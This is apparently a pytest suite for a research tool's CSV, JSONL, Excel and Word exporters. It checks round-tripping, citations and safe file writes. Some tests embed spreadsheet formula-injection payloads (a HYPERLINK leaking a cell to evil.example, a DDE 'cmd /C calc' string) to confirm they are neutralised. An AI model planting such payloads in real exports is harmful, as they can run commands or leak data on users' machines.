"""Every export format read back: same excerpts, every field, nothing a reader's
spreadsheet would execute, nothing a PDF's control characters can break."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import docx
import openpyxl
import pytest

from workbench import compare, export
from workbench.export import csv_file, excel, json_lines, word
from workbench.store import GENERAL, CodingFilter

F = CodingFilter()


def _codes(store) -> list[dict]:
    return [{"id": c.id, "name": c.name, "group": c.group, "definition": c.definition}
            for c in store.codes()]


def _excel(value):
    """What the xlsx sheet should hold for a row value."""
    if isinstance(value, datetime):
        return (value if value.tzinfo is None else value.astimezone(UTC)).replace(tzinfo=None)
    return None if value == "" else value  # an empty string is an empty cell


def _row(**kw) -> dict:
    base = {k: None for k in export.COLUMNS}
    base.update({"text": "Some text.", "code_id": "FP01", "code_name": "Integration from day one",
                 "code_group": "FP", "title": "A report", "document_id": 1, "page_start": 3,
                 "page_end": 3, "city": "Solna", "coder": "ana", "origin": "human",
                 "status": "accepted"})
    base.update(kw)
    return base


@pytest.fixture
def rows(demo_store) -> list[dict]:
    out = export.excerpt_rows(demo_store, F)
    assert len(out) > 100
    return out


# ------------------------------------------------------------------------ csv, jsonl
def test_csv_reads_back_with_every_field(rows):
    data = export.render("csv", rows).decode("utf-8")
    reader = csv.DictReader(io.StringIO(data))
    back = list(reader)
    assert reader.fieldnames == export.COLUMNS
    assert len(back) == len(rows)
    assert [r["text"] for r in back] == [r["text"] for r in rows]


def test_jsonl_reads_back_with_every_field(rows):
    data = export.render("jsonl", rows).decode("utf-8")
    lines = data.splitlines()  # splitlines on purpose: U+2028 must not split an excerpt
    assert len(lines) == len(rows)
    back = [json.loads(line) for line in lines]
    assert all(list(obj) == export.COLUMNS for obj in back)
    for obj, row in zip(back, rows, strict=True):
        assert obj["text"] == row["text"] and obj["code_id"] == row["code_id"]
        assert obj["page_start"] == row["page_start"]
        stamp = datetime.fromisoformat(obj["created_at"])
        assert stamp.utcoffset() == timedelta(0)
        expected = row["created_at"]
        expected = expected.replace(tzinfo=UTC) if expected.tzinfo is None else expected
        assert stamp == expected


def test_jsonl_keeps_unicode_and_one_line_per_excerpt():
    tz = timezone(timedelta(hours=2))
    rows = [_row(text="Città — Malmö\u2028next", created_at=datetime(2024, 5, 1, 12, 0, tzinfo=tz)),
            _row(text="line\nbreak", created_at=datetime(2024, 5, 1, 12, 0))]
    data = json_lines.to_jsonl(rows)
    assert "Città — Malmö" in data  # ensure_ascii=False
    lines = data.splitlines()
    assert len(lines) == 2
    first, second = (json.loads(line) for line in lines)
    assert first["text"] == "Città — Malmö\u2028next" and second["text"] == "line\nbreak"
    assert first["created_at"] == "2024-05-01T10:00:00+00:00"  # converted to UTC
    assert second["created_at"] == "2024-05-01T12:00:00+00:00"  # naive store time is UTC


# ---------------------------------------------------------------------------- xlsx
def test_xlsx_has_excerpts_matrix_and_codebook(demo_store, rows):
    wide = compare.matrix(demo_store, F)
    codes = _codes(demo_store)
    assert len(codes) == 36
    wb = openpyxl.load_workbook(io.BytesIO(export.render("xlsx", rows, matrix=wide,
                                                         codes=codes)))
    assert wb.sheetnames == ["Excerpts", "City x code", "Codebook"]

    ws = wb["Excerpts"]
    table = list(ws.iter_rows(values_only=True))
    assert list(table[0]) == export.COLUMNS
    assert len(table) - 1 == len(rows)
    for got, row in zip(table[1:], rows, strict=True):
        for value, key in zip(got, export.COLUMNS, strict=True):
            expected = _excel(row[key])
            if isinstance(expected, datetime):  # Excel keeps milliseconds
                assert abs(value - expected) < timedelta(milliseconds=1), key
            else:
                assert value == expected, key
    assert ws.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(len(export.COLUMNS))
    assert ws.auto_filter.ref == f"A1:{last}{len(rows) + 1}"
    assert all(c.font.b for c in ws[1])
    text_col = export.COLUMNS.index("text") + 1
    assert ws.cell(2, text_col).alignment.wrap_text
    assert ws.column_dimensions["A"].width >= 60

    ws = wb["City x code"]
    table = list(ws.iter_rows(values_only=True))
    assert list(table[0]) == ["city", *wide.columns]
    assert [r[0] for r in table[1:]] == list(wide.index)
    assert [list(r[1:]) for r in table[1:]] == wide.to_numpy().tolist()
    assert table[-1][0] == GENERAL

    ws = wb["Codebook"]
    table = list(ws.iter_rows(values_only=True))
    assert list(table[0]) == ["id", "name", "group", "definition"]
    assert len(table) - 1 == 36
    assert [dict(zip(table[0], r, strict=True)) for r in table[1:]] == codes


def test_xlsx_stores_formula_like_text_as_text(rows):
    evil = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+SUM(1,2)", "-2+3",
            "@cmd|' /C calc'!A0"]
    tampered = [{**rows[0], "text": evil[0], "memo": evil[1], "speaker": evil[2],
                 "title": evil[3]}, *rows[1:3]]
    wb = openpyxl.load_workbook(io.BytesIO(excel.to_xlsx(tampered, None, None)))
    assert wb.sheetnames == ["Excerpts"]  # sheets without input are left out
    ws = wb["Excerpts"]
    header = [c.value for c in ws[1]]
    cells = {header[i]: c for i, c in enumerate(ws[2])}
    for column, text in zip(("text", "memo", "speaker", "title"), evil, strict=True):
        assert cells[column].value == text
        assert cells[column].data_type == "s"  # not "f": Excel shows it, never runs it


def test_xlsx_strips_illegal_characters_and_writes_naive_utc():
    aware = datetime(2024, 5, 1, 12, 0, tzinfo=timezone(timedelta(hours=2)))
    row = _row(text="bad\x00char\x0b here\x1f", memo=None, created_at=aware)
    ws = openpyxl.load_workbook(io.BytesIO(excel.to_xlsx([row], None, None)))["Excerpts"]
    values = dict(zip(export.COLUMNS, next(ws.iter_rows(min_row=2, values_only=True)),
                      strict=True))
    assert values["text"] == "badchar here"
    assert values["memo"] is None
    assert values["created_at"] == datetime(2024, 5, 1, 10, 0)


# ---------------------------------------------------------------------------- docx
def _doc(data: bytes):
    return docx.Document(io.BytesIO(data))


def test_docx_groups_by_code_and_city_with_citations(rows):
    document = _doc(export.render("docx", rows, title="Demo report",
                                  filters_text="status accepted"))
    paragraphs = document.paragraphs
    assert paragraphs[0].text == "Demo report"
    assert paragraphs[1].text == f"Filters: status accepted. {len(rows)} excerpts."

    names = {r["code_id"]: r["code_name"] for r in rows}
    h1 = [p.text for p in paragraphs if p.style.name == "Heading 1"]
    assert h1 == [f"{code} {names[code]}" for code in sorted(names)]

    citations = [p.text for p in paragraphs if p.text.startswith("— ")]
    # each excerpt is quoted under every case city it is about
    assert len(citations) == sum(len(r["city"].split("; ")) for r in rows) > len(rows)
    titles = {r["title"] for r in rows}
    assert all(any(f"{t}, p" in c for t in titles) for c in citations)
    assert any(c.startswith("— Scholten & Kaşlı (2019), ") for c in citations)
    assert all("(coder: " in c for c in citations)

    first = word.grouped(rows)[0][2][0][1][0]  # first code, first city, first excerpt
    index = next(i for i, p in enumerate(paragraphs) if p.style.name == "Heading 2")
    assert paragraphs[index + 1].text == first["text"]
    assert paragraphs[index + 2].text == word.citation(first)
    assert f"p. {first['page_start']}" in paragraphs[index + 2].text


def test_docx_survives_control_characters(rows):
    dirty = [{**rows[0], "text": "Form\x0cfeed\x00 and\x07 bell\ttab\nnewline",
              "title": "Title\x01", "speaker": "Mayor\x1b"}]
    document = _doc(word.to_docx(dirty, "Report\x02", "filters\x03"))
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "Report"
    assert "Formfeed and bell\ttab\nnewline" in texts
    assert any(t.startswith("— ") and ", Title, " in t and "speaker: Mayor (" in t for t in texts)


def test_docx_grouping_order_and_citation_format():
    rows = [
        _row(code_id="RE03", code_name="Build local capacity", city=GENERAL, text="r-gen"),
        _row(code_id="FP01", city="Solna", text="f-solna-1"),
        _row(code_id="FP01", city=GENERAL, text="f-gen"),
        _row(code_id="RE03", code_name="Build local capacity", city="Bolzano", text="r-bol"),
        _row(code_id="FP01", city="Bolzano", text="f-bol", page_start=3, page_end=4,
             speaker="Mayor Rossi"),
        _row(code_id="FP01", city="Solna", text="f-solna-2", origin="model", coder="model",
             status="suggested", model_version_id=2, score=0.8312),
    ]
    document = _doc(word.to_docx(rows, "Order", ""))
    outline = [(p.style.name, p.text) for p in document.paragraphs
               if p.style.name.startswith("Heading") or not p.text.startswith("— ")]
    assert outline == [
        ("Title", "Order"), ("Normal", "Filters: none. 6 excerpts."),
        ("Heading 1", "FP01 Integration from day one"),
        ("Heading 2", "Bolzano"), ("Normal", "f-bol"),
        ("Heading 2", "Solna"), ("Normal", "f-solna-1"), ("Normal", "f-solna-2"),
        ("Heading 2", GENERAL), ("Normal", "f-gen"),
        ("Heading 1", "RE03 Build local capacity"),
        ("Heading 2", "Bolzano"), ("Normal", "r-bol"),
        ("Heading 2", GENERAL), ("Normal", "r-gen"),
    ]
    cites = [p.text for p in document.paragraphs if p.text.startswith("— ")]
    assert cites[0] == "— A report, pp. 3–4, speaker: Mayor Rossi (coder: ana, accepted)"
    assert cites[1] == "— A report, p. 3 (coder: ana, accepted)"
    assert cites[2] == "— A report, p. 3 (coder: model, suggested, model v2, score 0.83)"


def test_docx_with_no_rows_says_so():
    texts = [p.text for p in _doc(word.to_docx([], "Empty", "code RE09")).paragraphs]
    assert texts == ["Empty", "Filters: code RE09. 0 excerpts.",
                     "No coded excerpts match these filters."]


# -------------------------------------------------------------------------- render
def test_formats_and_render_dispatch():
    assert set(export.FORMATS) >= {"csv", "xlsx", "docx", "jsonl"}
    assert export.FORMATS["xlsx"][0] == ".xlsx" and "spreadsheetml" in export.FORMATS["xlsx"][1]
    rows = [_row()]
    assert export.render("csv", rows).decode("utf-8").splitlines()[0].split(",") == \
        export.COLUMNS
    assert export.render("docx", rows)[:2] == b"PK"
    assert export.render("xlsx", rows)[:2] == b"PK"
    with pytest.raises(ValueError, match=r"unknown export format 'pdf'.*csv.*docx.*jsonl.*xlsx"):
        export.render("pdf", rows)


def test_csv_cells_that_would_run_as_formulas_are_defused(rows):
    hostile = [{**rows[0], "text": '=HYPERLINK("http://x.example","click")', "memo": "@SUM(A1)",
                "speaker": "-2+3", "city": "+1"}, {**rows[1], "text": "\tTab first"}]
    back = list(csv.DictReader(io.StringIO(export.render("csv", hostile).decode("utf-8"))))
    assert back[0]["text"] == '\'=HYPERLINK("http://x.example","click")'
    assert (back[0]["memo"], back[0]["speaker"], back[0]["city"]) == ("'@SUM(A1)", "'-2+3", "'+1")
    assert back[1]["text"] == "'\tTab first"
    assert back[0]["page_start"] == str(rows[0]["page_start"])  # numbers stay numbers
    # JSONL keeps every text exactly
    lines = export.render("jsonl", hostile).decode("utf-8").splitlines()
    assert json.loads(lines[0])["text"] == hostile[0]["text"]


def test_docx_carries_a_coding_memo_under_its_citation():
    rows = [_row(text="The desk opens at nine.", memo="volunteers run it"), _row(text="No memo.")]
    texts = [p.text for p in _doc(word.to_docx(rows, "Memos", "all")).paragraphs]
    at = texts.index("The desk opens at nine.")
    assert texts[at + 2] == "Memo: volunteers run it"
    assert not any(t.startswith("Memo:") for t in texts[texts.index("No memo."):])


def test_docx_quotes_a_passage_once_with_every_coder_and_cites_author_and_year():
    same = dict(text="The desk opens at nine.", document_id=1, char_start=10, char_end=33,
                authors="Peter Scholten; Zeynep Kaşlı", year=2019)
    rows = [_row(**same, coder="ana", memo="front desk"), _row(**same, coder="bob"),
            _row(**same, coder="model", origin="model", status="suggested",
                 model_version_id=3, score=0.61),
            _row(text="Elsewhere.", document_id=1, char_start=50, char_end=60,
                 authors="A. One; B. Two; C. Three", year=2021)]
    texts = [p.text for p in _doc(word.to_docx(rows, "Passages", "")).paragraphs]
    assert texts.count("The desk opens at nine.") == 1
    assert "Filters: none. 2 excerpts." in texts
    at = texts.index("The desk opens at nine.")
    assert texts[at + 1] == ("— Scholten & Kaşlı (2019), A report, p. 3 (coders: ana, accepted; "
                             "bob, accepted; model, suggested, model v3, score 0.61)")
    assert texts[at + 2] == "Memo (ana): front desk"
    assert texts[texts.index("Elsewhere.") + 1].startswith("— One et al. (2021), A report")
    assert word.authors_short("Zeynep Kaşlı") == "Kaşlı" and word.authors_short("") == ""
    assert word.authors_short("Smith, John") == "Smith"
    assert word.authors_short("European Committee of the Regions") == \
        "European Committee of the Regions"


def _three_cities(store, tmp_path):
    """Three paragraphs, hand-checked: one about Hilden (Germany), one about Solna
    (Sweden), one about neither; each coded FP01 by ana."""
    from workbench import codebook
    from workbench.ingest import IngestOptions, ingest_file

    path = tmp_path / "cases.txt"
    path.write_text(
        "In Hilden the town hall opened a welcome desk for newcomers in 2016.\n\n"
        "Solna trained volunteers to guide families through the school system.\n\n"
        "Small towns across Europe often lack staff for integration work.\n",
        encoding="utf-8")
    doc = ingest_file(store, path, IngestOptions(cities=["Hilden", "Solna"],
                                                 countries=["Germany", "Sweden"]))
    store.load_codebook(codebook.load())
    segs = store.segments(doc.document_id)
    for seg in segs:
        store.decide(seg.id, "FP01", "ana", "accepted")
    return segs


def test_the_country_filter_is_the_case_citys_country(store, tmp_path):
    from workbench.store import CodingFilter

    segs = _three_cities(store, tmp_path)
    german = export.excerpt_rows(store, CodingFilter(countries=("Germany",)))
    assert [r["text"] for r in german] == [segs[0].text]
    assert [r["city"] for r in german] == ["Hilden"]
    assert [r["text"] for r in export.excerpt_rows(store, CodingFilter(countries=("Sweden",)))] \
        == [segs[1].text]
    assert store.facet_values()["countries"] == ["Germany", "Sweden"]


def test_an_unknown_filter_value_is_refused_naming_the_known_ones(store, tmp_path):
    from workbench.errors import InvalidInput
    from workbench.store import CodingFilter

    _three_cities(store, tmp_path)
    with pytest.raises(InvalidInput, match=r"unknown city 'Hildn' \(did you mean Hilden\?\); "
                                           r"known: Hilden, Solna"):
        export.export_bytes(store, "csv", CodingFilter(cities=("Hildn",)))
    with pytest.raises(InvalidInput, match="unknown country 'Narnia'; known: Germany, Sweden"):
        export.check_filter(store, CodingFilter(countries=("Narnia",)))
    with pytest.raises(InvalidInput, match="unknown coder 'bob'"):
        export.check_filter(store, CodingFilter(coders=("bob",)))
    export.check_filter(store, CodingFilter(cities=("Hilden",), coders=("ana",)))


def test_the_matrix_csv_defuses_formulas_in_its_labels_and_cells():
    import pandas as pd

    table = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "FP01": [2]},
                         index=pd.Index(["@SUM(1+1)"], name="city"))
    text = csv_file.table_csv(table)
    assert text.splitlines() == ["city,'=cmd|' /C calc'!A0,FP01", "'@SUM(1+1),1,2"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_streamed_file_is_the_file_built_in_memory(demo_store, tmp_path, monkeypatch, fmt):
    from workbench.store import analysis

    f = CodingFilter(statuses=("accepted", "suggested"))
    whole = export.export_bytes(demo_store, fmt, f)
    # batches of 50: the demo's 600 accepted codings cross many batch boundaries
    real = analysis.Analysis.coded_rows_in_batches
    monkeypatch.setattr(analysis.Analysis, "coded_rows_in_batches",
                        lambda self, f, size=5000: real(self, f, size=50))
    path = tmp_path / f"out.{fmt}"
    assert export.export_file(demo_store, fmt, f, path) == len(whole)
    assert path.read_bytes() == whole
    plain = tmp_path / "plain"
    plain.write_bytes(b"")
    assert path.stat().st_mode == plain.stat().st_mode  # the umask's, not a temp file's
    assert len(whole.splitlines()) > 10 * 50


def test_a_stream_that_fails_leaves_the_old_file_and_no_other(demo_store, tmp_path,
                                                              monkeypatch):
    from workbench.store import analysis

    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / "out.csv"
    path.write_text("the export of yesterday\n", encoding="utf-8")
    real = analysis.Analysis.coded_rows_in_batches

    def broken(self, f, size=5000):
        yield from list(real(self, f, size=100))[:3]
        raise OSError("disk full")

    monkeypatch.setattr(analysis.Analysis, "coded_rows_in_batches", broken)
    with pytest.raises(OSError, match="disk full"):
        export.export_file(demo_store, "csv", CodingFilter(), path)
    assert path.read_text(encoding="utf-8") == "the export of yesterday\n"
    assert [p.name for p in folder.iterdir()] == ["out.csv"]


def test_an_export_to_a_link_or_a_pipe_writes_where_it_points(demo_store, tmp_path):
    import os
    import threading

    whole = export.export_bytes(demo_store, "jsonl", CodingFilter())
    target = tmp_path / "kept.jsonl"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    link = tmp_path / "latest.jsonl"
    link.symlink_to(target)
    assert export.export_file(demo_store, "jsonl", CodingFilter(), link) == len(whole)
    assert link.is_symlink() and target.read_bytes() == whole
    assert target.stat().st_mode & 0o777 == 0o640  # the file keeps its own mode
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()))
    reader.start()
    assert export.export_file(demo_store, "jsonl", CodingFilter(), pipe) == -1
    reader.join(30)
    assert got == [whole]
